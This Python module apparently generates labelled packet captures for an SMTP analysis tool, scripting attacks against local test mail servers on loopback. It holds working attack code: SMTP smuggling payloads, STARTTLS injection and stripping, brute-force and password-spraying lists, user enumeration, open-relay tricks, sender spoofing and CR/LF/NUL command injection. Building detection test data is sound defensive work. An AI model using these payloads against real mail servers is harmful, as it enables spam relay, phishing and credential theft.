"""Attack recordings: each security finding of smtpsniff made for real on loopback.

Every capture here is an attack (or a weakness) performed by a real client against a real server
(aiosmtpd, Postfix), or by a real client against a small adversary where the attack *is* the
server (STARTTLS stripping proxy, response injection).  ``ATTACK_RECORDERS`` plugs into record.py.
"""
from __future__ import annotations

import base64
import shutil
import socket
import ssl
import subprocess
import time
from contextlib import ExitStack
from pathlib import Path

from rec_clients import RawClient, RecSMTP, client_tls_context, parse_swaks
from rec_common import Sniffer, Transcript, unstuff, write_truth
from rec_scenarios import PAUSE, _ascii_msg, _swaks_msg_file, msg_simple
from rec_servers import USERS, Postfix, start_aiosmtpd
from rec_attack_servers import (
    MECH_CREDENTIALS, InjectingServer, StrippingProxy, start_mech_server, start_open_relay, start_slow_banner)

#: Server address of every attack recording: its own loopback address, so that the capture filter
#: keeps out any other traffic on the same ports; clients connect from 127.0.0.1.
H = "127.0.0.25"
CLIENT = "127.0.0.1"
PF_PORT = 10026  # Postfix for these recordings (the protocol recordings use 10025)
PF_VIRTUAL = {
    "virtual_mailbox_domains": "example.test",
    "virtual_mailbox_maps": "inline:{ {alice@example.test=alice/}, {bob@example.test=bob/}, "
                            "{carol@example.test=carol/}, {postmaster@example.test=pm/} }",
    "virtual_transport": "discard:recorded",
    "smtpd_recipient_restrictions": "permit",
}


def _tr(client, server, port, note, host=H, **kw) -> Transcript:
    return Transcript(client, server, host, port, note=note, **kw)


def swaks_from(tr: Transcript, source: str, args: list[str]) -> str:
    """swaks bound to ``source`` (another loopback address), transcript parsed as in run_swaks."""
    with socket.socket() as probe:
        probe.bind((source, 0))
        lport = probe.getsockname()[1]
    tr.client_addr = (source, lport)
    argv = ["swaks", "--server", tr.host, "--port", str(tr.port), "--timeout", "10", "--local-interface", source,
            "--local-port", str(lport), "--hide-informational"] + args
    out = subprocess.run(argv, capture_output=True, text=True, timeout=30)
    parse_swaks(tr, out.stdout + out.stderr)
    return out.stdout + out.stderr


def drain(c: RawClient, quiet: float = 0.8) -> list[int]:
    """Read every reply that arrives until the server is quiet for ``quiet`` seconds."""
    buf = b""
    c.sock.settimeout(quiet)
    try:
        while True:
            chunk = c.sock.recv(65536)
            if not chunk:
                break
            buf += chunk
    except (socket.timeout, TimeoutError):
        pass
    finally:
        c.sock.settimeout(10)
        c.f = c.sock.makefile("rb")
    codes, lines = [], []
    for raw in buf.split(b"\r\n"):
        if not raw:
            continue
        text = raw.decode("utf-8", "replace")
        lines.append(text)
        if len(text) < 4 or text[3] != "-":
            code = int(text[:3]) if text[:3].isdigit() else 0
            c.tr.s(code, lines)
            codes.append(code)
            lines = []
    return codes


def raw_send(c: RawClient, data: bytes, label: str, kind: str = "raw") -> None:
    c.tr.c(label, kind)
    c.sock.sendall(data)


def sasl(s: RecSMTP, mech: str, first: bytes | None, respond) -> int:
    """One AUTH exchange through smtplib: ``respond(challenge) -> bytes | None`` (None cancels)."""
    arg = mech if first is None else f"{mech} {base64.b64encode(first).decode() or '='}"
    code, msg = s.docmd("AUTH", arg)
    while code == 334:
        answer = respond(base64.b64decode(msg) if msg else b"")
        code, msg = s.docmd("*" if answer is None else base64.b64encode(answer).decode())
    return code


# ---------------------------------------------------------------------------------------------------
def auth_mechs(ctx):
    """aiosmtpd on 587 with NTLM, DIGEST-MD5, SCRAM-SHA-1/256, XOAUTH2 and OAUTHBEARER implemented
    server-side for real (challenges generated, responses verified): swaks NTLM (Authen::NTLM, NTLMv1),
    smtplib + pyspnego NTLMv2, swaks DIGEST-MD5 (Authen::SASL), smtplib + scramp SCRAM, smtplib
    XOAUTH2/OAUTHBEARER with a good and a bad token.  All in clear text."""
    import scramp
    import spnego

    trs = []
    # 1. swaks NTLM (NTLMv1 from Authen::NTLM)
    tr = _tr("swaks", "aiosmtpd", 587, "swaks --auth NTLM (Authen::NTLM)")
    tr.auth_creds.append({"username": "dave", "domain": "EXAMPLE", "password": "Dave-NTLM-1", "expected": "success"})
    swaks_from(tr, CLIENT, ["--ehlo", "ws-dave.example.test", "--from", "dave@example.test", "--to", "bob@example.test",
                       "--auth", "NTLM", "--auth-user", "dave", "--auth-password", "Dave-NTLM-1",
                       "--auth-extra", "domain=EXAMPLE", "--quit-after", "AUTH"])
    trs.append(tr)
    time.sleep(PAUSE)

    def smtplib_session(note, run):
        tr = _tr("smtplib", "aiosmtpd", 587, note)
        with RecSMTP(tr, H, 587, local_hostname="laptop.example.test", timeout=10) as s:
            s.ehlo()
            run(s, tr)
            s.quit()
        trs.append(tr)
        time.sleep(PAUSE)

    # 2. NTLMv2 from pyspnego's NTLM client
    def ntlm_v2(s, tr):
        tr.auth_creds.append({"username": "erin", "domain": "EXAMPLE", "password": "Erin-v2-pass",
                              "expected": "success"})
        client = spnego.client("EXAMPLE\\erin", "Erin-v2-pass", hostname="mail.example.test", service="smtp",
                               protocol="ntlm")
        sasl(s, "NTLM", client.step(), lambda ch: client.step(ch))
    smtplib_session("AUTH NTLM, NTLMv2 (pyspnego client)", ntlm_v2)

    # 3. swaks DIGEST-MD5
    tr = _tr("swaks", "aiosmtpd", 587, "swaks --auth DIGEST-MD5 (Authen::SASL)")
    tr.auth_creds.append({"username": "frank", "password": "Fr@nk-digest", "expected": "success"})
    swaks_from(tr, CLIENT, ["--ehlo", "ws-frank.example.test", "--from", "frank@example.test", "--to", "bob@example.test",
                       "--auth", "DIGEST-MD5", "--auth-user", "frank", "--auth-password", "Fr@nk-digest",
                       "--quit-after", "AUTH"])
    trs.append(tr)
    time.sleep(PAUSE)

    # 4. SCRAM (scramp client): a wrong password, then SHA-256 and SHA-1 successes
    def scram(mech, user, password):
        def run(s, tr):
            tr.auth_creds.append({"username": user, "password": password,
                                  "expected": "success" if MECH_CREDENTIALS["scram"][user] == password else "failure"})
            c = scramp.ScramClient([mech], user, password)
            steps = iter([lambda ch: c.set_server_first(ch.decode()) or c.get_client_final().encode(),
                          lambda ch: c.set_server_final(ch.decode()) or b""])
            sasl(s, mech, c.get_client_first().encode(), lambda ch: next(steps)(ch))
        return run
    smtplib_session("AUTH SCRAM-SHA-256, wrong password (535)", scram("SCRAM-SHA-256", "grace", "grace-guess"))
    smtplib_session("AUTH SCRAM-SHA-256", scram("SCRAM-SHA-256", "grace", "Grace-SCRAM-256"))
    smtplib_session("AUTH SCRAM-SHA-1", scram("SCRAM-SHA-1", "heidi", "Heidi-scram1"))

    # 5. bearer tokens
    def bearer(mech, user, token):
        def run(s, tr):
            tr.auth_creds.append({"username": user, "token": token,
                                  "expected": "success" if MECH_CREDENTIALS["tokens"].get(user) == token else "failure"})
            if mech == "XOAUTH2":
                first = f"user={user}\x01auth=Bearer {token}\x01\x01".encode()
            else:
                first = f"n,a={user},\x01host=mail.example.test\x01port=587\x01auth=Bearer {token}\x01\x01".encode()
            sasl(s, mech, first, lambda ch: b"\x01" if mech == "OAUTHBEARER" else b"")
        return run
    smtplib_session("AUTH XOAUTH2 with a revoked token (334 JSON error, empty response, 535)",
                    bearer("XOAUTH2", "ivan@example.test", "ya29.revoked-token"))
    smtplib_session("AUTH XOAUTH2", bearer("XOAUTH2", "ivan@example.test", "ya29.ivan-test-token"))
    smtplib_session("AUTH OAUTHBEARER (RFC 7628)", bearer("OAUTHBEARER", "judy@example.test", "judy-bearer-token-1"))
    return trs


def rec_auth_mechs(ctx):
    path = ctx.out / "smtp-auth-mechs.pcap"
    with ExitStack() as st:
        st.callback(start_mech_server(H, 587).stop)
        with Sniffer(path, f"host {H} and tcp port 587"):
            trs = auth_mechs(ctx)
    write_truth(path.with_suffix(".json"), path, auth_mechs.__doc__, trs,
                extra={"credentials_db": MECH_CREDENTIALS})
    return path


# ---------------------------------------------------------------------------------------------------
BRUTE_SOURCE, SPRAY_SOURCE = "127.0.0.3", "127.0.0.4"
BRUTE_GUESSES = ["123456", "password", "alice2024", "qwerty", "letmein", "wonderland1", "wonderland"]
SPRAY_USERS = ["root", "admin", "info", "bob@example.test", "carol", "postmaster"]
SPRAY_PASSWORD = "Winter2024!"


def auth_attacks(ctx):
    """aiosmtpd on 587: swaks as a brute forcer from 127.0.0.3 (AUTH LOGIN for alice, six wrong
    passwords then the right one: each a connection), and as a password sprayer from 127.0.0.4
    (AUTH PLAIN, one password for six usernames, all refused)."""
    trs = []
    for guess in BRUTE_GUESSES:
        tr = _tr("swaks", "aiosmtpd", 587, f"brute force from {BRUTE_SOURCE}: alice / guess")
        tr.auth_creds.append({"username": "alice", "password": guess,
                              "expected": "success" if USERS["alice"] == guess else "failure"})
        swaks_from(tr, BRUTE_SOURCE, ["--ehlo", "x", "--from", "alice@example.test", "--to", "bob@example.test",
                                      "--auth", "LOGIN", "--auth-user", "alice", "--auth-password", guess,
                                      "--quit-after", "AUTH"])
        trs.append(tr)
        time.sleep(PAUSE)
    for user in SPRAY_USERS:
        tr = _tr("swaks", "aiosmtpd", 587, f"password spraying from {SPRAY_SOURCE}: {user}")
        tr.auth_creds.append({"username": user, "password": SPRAY_PASSWORD, "expected": "failure"})
        swaks_from(tr, SPRAY_SOURCE, ["--ehlo", "spray", "--from", "x@example.test", "--to", "bob@example.test",
                                      "--auth", "PLAIN", "--auth-user", user, "--auth-password", SPRAY_PASSWORD,
                                      "--quit-after", "AUTH"])
        trs.append(tr)
        time.sleep(PAUSE)
    return trs


def rec_auth_attacks(ctx):
    path = ctx.out / "smtp-auth-attacks.pcap"
    with ExitStack() as st:
        st.callback(start_aiosmtpd(H, 587, auth=True, tls=ctx.tls).stop)
        with Sniffer(path, f"host {H} and tcp port 587"):
            trs = auth_attacks(ctx)
    write_truth(path.with_suffix(".json"), path, auth_attacks.__doc__, trs,
                extra={"credentials_db": dict(USERS), "brute_force_source": BRUTE_SOURCE,
                       "spraying_source": SPRAY_SOURCE})
    return path


# ---------------------------------------------------------------------------------------------------
SMUGGLING_SHAPES = [b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r.\r\n"]
SMUGGLED = (b"MAIL FROM:<admin@example.test>\r\nRCPT TO:<bob@example.test>\r\nDATA\r\n"
            b"From: admin@example.test\r\nTo: bob@example.test\r\nSubject: smuggled\r\n\r\n"
            b"This message was smuggled.\r\n")


def smuggling(ctx):
    """Raw-socket SMTP smuggling against aiosmtpd 1.4.6 (port 25) and Postfix 3.7 (port 10026,
    smtpd_forbid_bare_newline at its 3.7 default): DATA content with an end-of-data look-alike
    (\\n.\\n, \\n.\\r\\n, \\r\\n.\\n, \\r.\\r, \\r.\\r\\n) followed by MAIL/RCPT/DATA and a second message, then the
    real CRLF.CRLF; every reply the server sent back is in the transcript."""
    trs = []
    for server, port in (("aiosmtpd", 25), ("postfix", PF_PORT)):
        for shape in SMUGGLING_SHAPES:
            tr = _tr("raw", server, port, f"smuggling shape {shape!r}")
            c = RawClient(tr)
            c.cmd("EHLO smuggler.example.test")
            c.cmd("MAIL FROM:<alice@example.test>")
            c.cmd("RCPT TO:<bob@example.test>")
            c.cmd("DATA")
            body = (b"From: alice@example.test\r\nTo: bob@example.test\r\nSubject: cover\r\n\r\ncover text"
                    + shape + SMUGGLED)
            wire = body + b".\r\n"
            tr.c("", "data-body", data=unstuff(wire), wire_len=len(wire))  # as a strict receiver stores it
            tr.message_meta.append({"wire_b64": base64.b64encode(wire).decode(), "shape": shape.decode()})
            c.sock.sendall(wire)
            drain(c, 1.5)
            c.cmd("QUIT")
            c.close()
            trs.append(tr)
            time.sleep(PAUSE)
    return trs


def rec_smuggling(ctx):
    path = ctx.out / "smtp-smuggling.pcap"
    with ExitStack() as st:
        pf = Postfix(ctx.work, PF_PORT, ctx.crt, ctx.key, extra=PF_VIRTUAL, name="postfix-smuggling", host=H)
        st.callback(pf.stop)  # also undoes the main.cf entry if start() fails
        pf.start()
        st.callback(start_aiosmtpd(H, 25).stop)
        with Sniffer(path, f"host {H} and (tcp port 25 or tcp port {PF_PORT})"):
            trs = smuggling(ctx)
    write_truth(path.with_suffix(".json"), path, smuggling.__doc__, trs, extra={"dissect_as_smtp": [PF_PORT]})
    return path


# ---------------------------------------------------------------------------------------------------
def _tls_client(c: RawClient, keylog: Path | None = None) -> ssl.SSLSocket:
    return client_tls_context(keylog).wrap_socket(c.sock, server_hostname="mail.example.test")


def starttls_attacks(ctx):
    """STARTTLS attacks.  Command injection (CVE-2011-0411): "STARTTLS\\r\\nRSET\\r\\n" in one write to
    Postfix (10026) and to aiosmtpd (587), then a real TLS handshake.  Response injection: smtplib
    against a server on port 25 that answers "220 go ahead\\r\\n250 injected\\r\\n" in one write before
    its handshake.  Stripping: a man in the middle on 2525 in front of aiosmtpd (10027, not captured)
    that masks STARTTLS as XXXXXXXA (smtplib then sends AUTH PLAIN and mail in clear), answers
    STARTTLS 454 itself (swaks --tls-optional goes on in clear with AUTH LOGIN), or masks the banner
    with '*' as well."""
    trs = []
    for server, port in (("postfix", PF_PORT), ("aiosmtpd", 587)):
        tr = _tr("raw", server, port, "STARTTLS command injection: STARTTLS\\r\\nRSET\\r\\n in one write")
        c = RawClient(tr)
        c.cmd("EHLO injector.example.test")
        tr.begin_batch()
        tr.c("STARTTLS")
        tr.c("RSET")
        tr.end_batch()
        c.sock.sendall(b"STARTTLS\r\nRSET\r\n")
        code = c.read_reply()
        if code == 220:
            tls = _tls_client(c)
            tr.tls_started(version=tls.version())
            tls.sendall(b"EHLO injector.example.test\r\n")
            time.sleep(0.3)
            tr.c("(inside TLS) EHLO injector.example.test; read: " + tls.recv(4096).decode("utf-8", "replace")
                 .replace("\r\n", " | "), "raw")
            tls.sendall(b"QUIT\r\n")
            try:
                tls.recv(100)
            except OSError:
                pass
            c.sock = tls
        c.close()
        trs.append(tr)
        time.sleep(PAUSE)

    tr = _tr("smtplib", "injecting server", 25, "STARTTLS response injection: 220 and 250 in one write")
    with RecSMTP(tr, H, 25, local_hostname="victim.example.test", timeout=10) as s:
        s.ehlo()
        s.starttls(context=client_tls_context())
        s.ehlo()
        s.quit()
    trs.append(tr)
    time.sleep(PAUSE)
    return trs


def stripping(ctx, proxy: StrippingProxy):
    trs = []
    for mode in ("mask", "banner"):
        proxy.mode = mode
        tr = _tr("smtplib", "aiosmtpd behind a stripping proxy", 2525,
                 f"proxy mode {mode}: the client finds no STARTTLS and goes on in clear")
        tr.auth_creds.append({"username": "carol", "password": USERS["carol"], "expected": "success"})
        with RecSMTP(tr, H, 2525, local_hostname="laptop-carol.example.test", timeout=10) as s:
            s.ehlo()
            if s.has_extn("starttls"):
                s.starttls(context=client_tls_context())
                s.ehlo()
            s.user, s.password = "carol", USERS["carol"]
            s.auth("PLAIN", s.auth_plain)
            m = msg_simple(901, "carol@example.test", "bob@example.test", "Stripped", "Sent in clear.\n")
            tr.message_meta.append({})
            s.send_message(m)
            s.quit()
        trs.append(tr)
        time.sleep(PAUSE)
    proxy.mode = "refuse"
    tr = _tr("swaks", "aiosmtpd behind a stripping proxy", 2525,
             "proxy mode refuse: STARTTLS answered 454; swaks --tls-optional goes on in clear")
    tr.auth_creds.append({"username": "bob@example.test", "password": USERS["bob@example.test"], "expected": "success"})
    swaks_from(tr, CLIENT, ["--tls-optional", "--ehlo", "laptop-bob.example.test", "--from", "bob@example.test",
                       "--to", "alice@example.test", "--auth", "LOGIN", "--auth-user", "bob@example.test",
                       "--auth-password", USERS["bob@example.test"],
                       "--data", _swaks_msg_file(ctx, "strip.eml", _ascii_msg(
                           902, "bob@example.test", "alice@example.test", "After 454", "Sent in clear.\n"))])
    trs.append(tr)
    return trs


def rec_starttls_attacks(ctx):
    path = ctx.out / "smtp-starttls-attacks.pcap"
    with ExitStack() as st:
        pf = Postfix(ctx.work, PF_PORT, ctx.crt, ctx.key, extra=PF_VIRTUAL, name="postfix-starttls", host=H)
        st.callback(pf.stop)  # also undoes the main.cf entry if start() fails
        pf.start()
        st.callback(start_aiosmtpd(H, 587, auth=True, tls=ctx.tls).stop)
        st.callback(start_aiosmtpd(H, 10027, auth=True, tls=ctx.tls).stop)
        inj = InjectingServer(H, 25, ctx.tls)
        st.callback(inj.stop)
        proxy = StrippingProxy(H, 2525, (H, 10027))
        st.callback(proxy.stop)
        with Sniffer(path, f"host {H} and (tcp port {PF_PORT} or tcp port 587 or tcp port 25 or tcp port 2525)"):
            trs = starttls_attacks(ctx) + stripping(ctx, proxy)
    write_truth(path.with_suffix(".json"), path, starttls_attacks.__doc__, trs,
                extra={"dissect_as_smtp": [PF_PORT], "credentials_db": dict(USERS)})
    return path


# ---------------------------------------------------------------------------------------------------
def early_talker(ctx):
    """aiosmtpd on 25 with a 1.5 s greeting pause (as Sendmail's greet_pause): a raw client that
    sends EHLO at once (early talker), then a polite smtplib client that waits (no finding)."""
    trs = []
    tr = _tr("raw", "aiosmtpd (greet pause)", 25, "EHLO sent before the greeting")
    s = socket.create_connection((H, 25), timeout=10)
    tr.client_addr = s.getsockname()[:2]
    tr.c("EHLO early.example.test")
    s.sendall(b"EHLO early.example.test\r\n")
    c = RawClient.__new__(RawClient)
    c.tr, c.sock, c.f = tr, s, s.makefile("rb")
    c.read_reply()  # the greeting
    c.read_reply()  # the EHLO reply
    c.cmd("MAIL FROM:<bot@spam.test>")
    c.cmd("RCPT TO:<alice@example.test>")
    c.cmd("QUIT")
    c.close()
    trs.append(tr)
    time.sleep(PAUSE)
    tr = _tr("smtplib", "aiosmtpd (greet pause)", 25, "a client that waits for the greeting")
    with RecSMTP(tr, H, 25, local_hostname="polite.example.test", timeout=10) as sm:
        sm.ehlo()
        sm.noop()
        sm.quit()
    trs.append(tr)
    return trs


def rec_early_talker(ctx):
    path = ctx.out / "smtp-early-talker.pcap"
    with ExitStack() as st:
        st.callback(start_slow_banner(H, 25).stop)
        with Sniffer(path, f"host {H} and tcp port 25"):
            trs = early_talker(ctx)
    write_truth(path.with_suffix(".json"), path, early_talker.__doc__, trs)
    return path


# ---------------------------------------------------------------------------------------------------
VRFY_NAMES = ["root", "admin", "alice", "bob", "postmaster", "test", "oracle", "backup", "www", "guest"]
EXPN_NAMES = ["staff", "all", "everyone", "sales", "support", "it"]
RCPT_NAMES = ["alice", "bob", "carol", "dan", "eve", "mallory", "oscar", "peggy", "trent", "victor", "walter",
              "postmaster"]


def enumeration(ctx):
    """User enumeration: a raw client sweeping VRFY (10 names) and EXPN (6 lists) against aiosmtpd on
    25, and RCPT TO (12 addresses) against Postfix on 10026 whose virtual mailbox table knows 4 of
    them (550 5.1.1 User unknown for the rest)."""
    trs = []
    tr = _tr("raw", "aiosmtpd", 25, "VRFY and EXPN sweep")
    c = RawClient(tr)
    c.cmd("HELO scanner.example.test")
    for name in VRFY_NAMES:
        c.cmd(f"VRFY {name}")
    for name in EXPN_NAMES:
        c.cmd(f"EXPN {name}")
    c.cmd("QUIT")
    c.close()
    trs.append(tr)
    time.sleep(PAUSE)
    tr = _tr("raw", "postfix", PF_PORT, "RCPT TO sweep")
    c = RawClient(tr)
    c.cmd("EHLO scanner.example.test")
    c.cmd("MAIL FROM:<>")
    for name in RCPT_NAMES:
        c.cmd(f"RCPT TO:<{name}@example.test>")
    c.cmd("RSET")
    c.cmd("QUIT")
    c.close()
    trs.append(tr)
    return trs


def rec_enumeration(ctx):
    path = ctx.out / "smtp-enumeration.pcap"
    with ExitStack() as st:
        pf = Postfix(ctx.work, PF_PORT, ctx.crt, ctx.key, extra=PF_VIRTUAL, name="postfix-enum", host=H)
        st.callback(pf.stop)  # also undoes the main.cf entry if start() fails
        pf.start()
        st.callback(start_aiosmtpd(H, 25).stop)
        with Sniffer(path, f"host {H} and (tcp port 25 or tcp port {PF_PORT})"):
            trs = enumeration(ctx)
    write_truth(path.with_suffix(".json"), path, enumeration.__doc__, trs, extra={"dissect_as_smtp": [PF_PORT]})
    return path


# ---------------------------------------------------------------------------------------------------
RELAY_RCPTS = ["victim@elsewhere.test", "victim%elsewhere.test@example.test", "@example.test:victim@elsewhere.test",
               '"victim@elsewhere.test"@example.test', "elsewhere.test!victim@example.test", "alice@example.test"]


def relay(ctx):
    """Open relay tests with a raw client from 127.0.0.1: against Postfix on 25 (mynetworks
    127.0.0.2/32, so the client is a stranger; reject_unauth_destination), and against an aiosmtpd on
    587 that deliberately accepts everything without AUTH.  Recipients: a foreign domain, the percent hack, a source
    route, a quoted address, a bang path, and a local user.  nmap's smtp-open-relay script follows
    against both, when nmap is installed."""
    trs = []
    for server, port in (("postfix", 25), ("aiosmtpd (open)", 587)):
        tr = _tr("raw", server, port, "relay attempts")
        c = RawClient(tr)
        c.cmd("EHLO relaytest.example.net")
        c.cmd("MAIL FROM:<spammer@bulk.test>")
        accepted = 0
        for rcpt in RELAY_RCPTS:
            accepted += c.cmd(f"RCPT TO:<{rcpt}>") < 300
        if accepted:
            if c.cmd("DATA") == 354:
                tr.message_meta.append({})
                c.data_body(_ascii_msg(950, "spammer@bulk.test", "victim@elsewhere.test", "Relayed",
                                       "Relayed through an open relay.\n"))
        c.cmd("QUIT")
        c.close()
        trs.append(tr)
        time.sleep(PAUSE)
    if shutil.which("nmap"):
        for server, port in (("postfix", 25), ("aiosmtpd (open)", 587)):
            tr = _tr("nmap", server, port, f"nmap -p {port} --script smtp-open-relay {H}")
            out = subprocess.run(["nmap", "-n", "-Pn", "-p", str(port), "--script", "smtp-open-relay",
                                  "--script-args", "smtp-open-relay.domain=example.test", H],
                                 capture_output=True, text=True, timeout=120).stdout
            tr.note += "\n" + out[out.find("PORT"):].strip()
            trs.append(tr)
    return trs


def rec_relay(ctx):
    path = ctx.out / "smtp-relay.pcap"
    extra = dict(PF_VIRTUAL, mynetworks="127.0.0.2/32",
                 smtpd_relay_restrictions="permit_mynetworks, reject_unauth_destination")
    with ExitStack() as st:
        pf = Postfix(ctx.work, 25, ctx.crt, ctx.key, extra=extra, name="postfix-relay", host=H)
        st.callback(pf.stop)  # also undoes the main.cf entry if start() fails
        pf.start()
        st.callback(start_open_relay(H, 587).stop)
        with Sniffer(path, f"host {H} and (tcp port 25 or tcp port 587)"):
            trs = relay(ctx)
    write_truth(path.with_suffix(".json"), path, relay.__doc__, trs)
    return path


# ---------------------------------------------------------------------------------------------------
SPOOF_SERVER = "127.0.0.26"


def spoofing(ctx):
    """Spoofing signs against aiosmtpd on 127.0.0.26:25 (mail.example.test), clients on 127.0.0.1:
    envelope sender vs From mismatch, two From fields, a display name carrying another address,
    EHLO with an address literal that is not the client's, EHLO with the server's own name, and a
    consistent message for contrast."""
    trs = []

    def raw_message(note, helo, mail_from, message: bytes):
        tr = _tr("raw", "aiosmtpd", 25, note, host=SPOOF_SERVER)
        c = RawClient(tr)
        c.cmd(f"EHLO {helo}")
        c.cmd(f"MAIL FROM:<{mail_from}>")
        c.cmd("RCPT TO:<alice@example.test>")
        c.cmd("DATA")
        tr.message_meta.append({})
        c.data_body(message)
        c.cmd("QUIT")
        c.close()
        trs.append(tr)
        time.sleep(PAUSE)

    def msg(headers: str, body: str = "Please see below.\r\n") -> bytes:
        return (headers + "To: alice@example.test\r\nSubject: Invoice\r\nDate: Tue, 04 Jun 2024 10:15:00 +0000\r\n"
                "Message-ID: <spoof@bulk.test>\r\n\r\n" + body).encode()

    raw_message("envelope sender in another domain than From", "mailer.bulk.test", "bounce-77@mailer.bulk.test",
                msg("From: Example CEO <ceo@example.test>\r\n"))
    raw_message("two From fields", "mailer.bulk.test", "news@bulk.test",
                msg("From: news@bulk.test\r\nFrom: ceo@example.test\r\n"))
    raw_message("display name carrying another address", "evil.test", "attacker@evil.test",
                msg('From: "support@bank.test" <attacker@evil.test>\r\n'))
    raw_message("EHLO address literal that is not the client's", "[192.0.2.55]", "bob@partner.test",
                msg("From: bob@partner.test\r\n"))
    raw_message("EHLO with the server's own name", "mail.example.test", "bob@partner.test",
                msg("From: bob@partner.test\r\n"))
    raw_message("consistent message (no finding)", "mx.partner.test", "bob@partner.test",
                msg("From: Bob <bob@partner.test>\r\n"))
    return trs


def rec_spoofing(ctx):
    path = ctx.out / "smtp-spoofing.pcap"
    with ExitStack() as st:
        st.callback(start_aiosmtpd(SPOOF_SERVER, 25).stop)
        with Sniffer(path, f"host {SPOOF_SERVER} and tcp port 25"):
            trs = spoofing(ctx)
    write_truth(path.with_suffix(".json"), path, spoofing.__doc__, trs)
    return path


# ---------------------------------------------------------------------------------------------------
def injection(ctx):
    """Command injection with a raw client: a bare CR inside MAIL FROM (Postfix 10026), an LF inside
    MAIL FROM followed by RCPT on the same CRLF line (Postfix), a NUL in RCPT TO (aiosmtpd 25), and a
    HELO of 2000 octets (aiosmtpd)."""
    trs = []
    cases = [
        ("postfix", PF_PORT, "bare CR inside MAIL FROM",
         b"MAIL FROM:<alice@example.test>\rRCPT TO:<bob@example.test>\r\n"),
        ("postfix", PF_PORT, "LF inside MAIL FROM",
         b"MAIL FROM:<alice@example.test>\nRCPT TO:<bob@example.test>\r\n"),
        ("aiosmtpd", 25, "NUL in RCPT TO", b"MAIL FROM:<alice@example.test>\r\nRCPT TO:<bob\x00@example.test>\r\n"),
        ("aiosmtpd", 25, "2000-octet HELO", b"HELO " + b"A" * 2000 + b"\r\n"),
    ]
    for server, port, note, data in cases:
        tr = _tr("raw", server, port, note)
        c = RawClient(tr)
        c.cmd("EHLO injector.example.test")
        raw_send(c, data, data.decode("latin-1"))
        drain(c)
        c.cmd("QUIT")
        c.close()
        trs.append(tr)
        time.sleep(PAUSE)
    return trs


def rec_injection(ctx):
    path = ctx.out / "smtp-command-injection.pcap"
    with ExitStack() as st:
        pf = Postfix(ctx.work, PF_PORT, ctx.crt, ctx.key, extra=PF_VIRTUAL, name="postfix-injection", host=H)
        st.callback(pf.stop)  # also undoes the main.cf entry if start() fails
        pf.start()
        st.callback(start_aiosmtpd(H, 25).stop)
        with Sniffer(path, f"host {H} and (tcp port 25 or tcp port {PF_PORT})"):
            trs = injection(ctx)
    write_truth(path.with_suffix(".json"), path, injection.__doc__, trs, extra={"dissect_as_smtp": [PF_PORT]})
    return path


ATTACK_RECORDERS = {
    "smtp-auth-mechs": rec_auth_mechs,
    "smtp-auth-attacks": rec_auth_attacks,
    "smtp-smuggling": rec_smuggling,
    "smtp-starttls-attacks": rec_starttls_attacks,
    "smtp-early-talker": rec_early_talker,
    "smtp-enumeration": rec_enumeration,
    "smtp-relay": rec_relay,
    "smtp-spoofing": rec_spoofing,
    "smtp-command-injection": rec_injection,
}
